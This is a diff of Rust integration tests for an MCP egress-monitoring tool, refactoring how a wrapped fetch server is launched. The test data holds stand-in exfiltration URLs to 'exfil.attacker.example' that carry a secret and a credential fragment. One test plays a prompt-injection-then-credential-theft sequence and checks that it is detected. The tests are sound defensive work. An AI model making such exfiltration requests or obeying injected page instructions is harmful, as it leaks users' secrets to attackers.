@@ -5,12 +5,13 @@
 //! `[egress.resolve]`.
 
 use std::io::{BufRead, BufReader};
+use std::path::Path;
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
 use mcptrail_event::{Event, EventKind};
 use mcptrail_test_support::destinations::Destination;
-use mcptrail_test_support::{python_peer, server_fetch_cmd, workspace_root};
+use mcptrail_test_support::fetch::{fetch_server_cmd, fetch_through, McpAt};
 use serde_json::Value;
 
 use crate::support::*;
@@ -23,6 +24,23 @@ allow = ["*.partner.example"]
 "docs.partner.example" = "127.0.0.1"
 "exfil.attacker.example" = "127.0.0.1"
 "#;
+
+/// `mcptrail --config CFG wrap --data-dir DATA --egress EXTRA… -- <fetch server>`.
+fn wrapped_fetch_server(cfg: &Path, data: &Path, extra: &[&str]) -> Vec<String> {
+    let mut cmd: Vec<String> = vec![
+        env!("CARGO_BIN_EXE_mcptrail").into(),
+        "--config".into(),
+        cfg.display().to_string(),
+        "wrap".into(),
+        "--data-dir".into(),
+        data.display().to_string(),
+        "--egress".into(),
+    ];
+    cmd.extend(extra.iter().map(|a| a.to_string()));
+    cmd.push("--".into());
+    cmd.extend(fetch_server_cmd());
+    cmd
+}
 
 fn detail<'a>(e: &'a Event, key: &str) -> &'a Value {
     &e.detail.as_ref().expect("net.egress has a detail")[key]
@@ -48,41 +66,14 @@ fn wrap_egress_links_each_connection_to_its_tool_call_and_refuses_denied_hosts()
         web.port
     );
     let denied = format!("http://exfil.attacker.example:{}/upload?d=secret", web.port);
-    let mut server: Vec<String> = vec![
-        env!("CARGO_BIN_EXE_mcptrail").into(),
-        "--config".into(),
-        cfg.display().to_string(),
-        "wrap".into(),
-        "--data-dir".into(),
-        data.display().to_string(),
-        "--egress".into(),
-        "--agent-id".into(),
-        "fetcher".into(),
-        "--".into(),
-    ];
-    server.extend(server_fetch_cmd(&["--ignore-robots-txt"]));
-    let out = Command::new(python_peer())
-        .arg(workspace_root().join("crates/mcptrail-test-support/peers/py_client.py"))
-        .args(["--no-default-calls", "--no-extras", "--allow-call-errors"])
-        .arg("--call")
-        .arg(format!(
-            "fetch={}",
-            serde_json::json!({ "url": allowed, "raw": true })
-        ))
-        .arg("--call")
-        .arg(format!("fetch={}", serde_json::json!({ "url": denied })))
-        .arg("--")
-        .args(&server)
-        .env_remove("MCPTRAIL_CONFIG")
-        .env_remove("MCPTRAIL_DATA_DIR")
-        .output()
-        .unwrap();
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
+    let server = wrapped_fetch_server(&cfg, &data, &["--agent-id", "fetcher"]);
+    let summary = fetch_through(
+        McpAt::Stdio(&server),
+        &[
+            serde_json::json!({ "url": allowed, "raw": true }),
+            serde_json::json!({ "url": denied }),
+        ],
     );
-    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
     let calls = summary["calls"].as_array().unwrap();
     assert_eq!(calls[0]["is_error"], false, "{summary}");
     assert!(
@@ -310,43 +301,16 @@ fn s3_prompt_injection_then_credential_theft_is_detected_with_its_evidence() {
         "http://exfil.attacker.example:{}/collect?k=wJalrXUtnFEMI",
         web.port
     );
-    let mut server: Vec<String> = vec![
-        env!("CARGO_BIN_EXE_mcptrail").into(),
-        "--config".into(),
-        cfg.display().to_string(),
-        "wrap".into(),
-        "--data-dir".into(),
-        data.display().to_string(),
-        "--egress".into(),
-        "--".into(),
-    ];
-    server.extend(server_fetch_cmd(&["--ignore-robots-txt"]));
-    let mut client = Command::new(python_peer());
-    client
-        .arg(workspace_root().join("crates/mcptrail-test-support/peers/py_client.py"))
-        .args(["--no-default-calls", "--no-extras", "--allow-call-errors"]);
-    for url in [
+    let server = wrapped_fetch_server(&cfg, &data, &[]);
+    let calls: Vec<Value> = [
         format!("{base}/guide.html"),
         format!("{base}/env.txt"),
         steal,
-    ] {
-        client.arg("--call").arg(format!(
-            "fetch={}",
-            serde_json::json!({ "url": url, "raw": true })
-        ));
-    }
-    let out = client
-        .arg("--")
-        .args(&server)
-        .env_remove("MCPTRAIL_CONFIG")
-        .env_remove("MCPTRAIL_DATA_DIR")
-        .output()
-        .unwrap();
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    ]
+    .into_iter()
+    .map(|url| serde_json::json!({ "url": url, "raw": true }))
+    .collect();
+    fetch_through(McpAt::Stdio(&server), &calls);
 
     let evs = events(&data);
     let secret_read = evs
